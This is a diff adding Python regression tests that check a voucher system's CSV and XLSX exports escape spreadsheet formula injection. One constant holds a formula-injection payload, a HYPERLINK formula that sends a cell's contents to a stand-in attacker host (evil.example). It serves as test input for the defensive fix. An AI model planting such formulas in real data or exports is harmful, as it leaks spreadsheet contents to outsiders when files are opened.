@@ -298,3 +298,47 @@ def test_a_month_is_exported_as_csv_and_xlsx(api, shop, elder, scanner, token, d
     assert error(
         api.get("/bureau/vouchers/export", approver, query={"month": month, "format": "pdf"}), 422
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_provider_named_like_a_formula_is_text_in_the_exports(
+    api, shop, elder, scanner, token, db_session
+):
+    """csv_chunks wrote text cells unchanged and xlsx_chunks let openpyxl store a str
+    starting with "=" as a formula: a provider named "=HYPERLINK(…)" ran in Excel. CSV text
+    starting with = + - @ TAB or CR gets a leading quote (OWASP); XLSX text is a string
+    cell; numbers are left alone."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    _redeemed_ten_meals(api, shop, elder, scanner)
+    shop.market.station.name = FORMULA
+    db_session.commit()
+    month = shop.voucher.month.strftime("%Y-%m")
+    approver = token(shop.approver)
+    answer = api.get("/bureau/redemptions/export", approver, query={"month": month})
+    [row] = list(csv.DictReader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
+    assert row["provider_name"] == "'" + FORMULA and row["subsidy_fen"] == "6000"
+    xlsx = api.get("/bureau/redemptions/export", approver, query={"month": month, "format": "xlsx"})
+    book = load_workbook(io.BytesIO(xlsx.get_data()))  # not read-only: the stored data_type
+    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
+    named = [c for c in cells if c.value == FORMULA]
+    assert len(named) == 1 and named[0].data_type == "s"
+    assert "f" not in {c.data_type for c in cells}
+    assert 6000 in [c.value for c in cells]  # numbers stay numbers
+
+
+def test_spreadsheet_safe_text():
+    from decimal import Decimal
+
+    from vouchers.spreadsheets import csv_text
+
+    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_text(risky) == "'" + risky
+    assert csv_text("张三") == "张三" and csv_text("") == "" and csv_text(None) == ""
+    assert csv_text(Decimal("-6.00")) == "-6.00" and csv_text(-6) == "-6"
+    assert csv_text(-6.5) == "-6.5"
